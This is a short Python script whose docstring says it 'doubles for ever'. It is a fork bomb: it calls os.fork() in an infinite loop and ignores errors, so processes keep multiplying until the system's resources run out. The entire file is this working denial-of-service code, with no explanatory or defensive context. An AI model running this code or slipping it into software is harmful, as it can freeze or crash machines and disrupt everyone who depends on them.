"""Doubles for ever, whatever it is told."""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
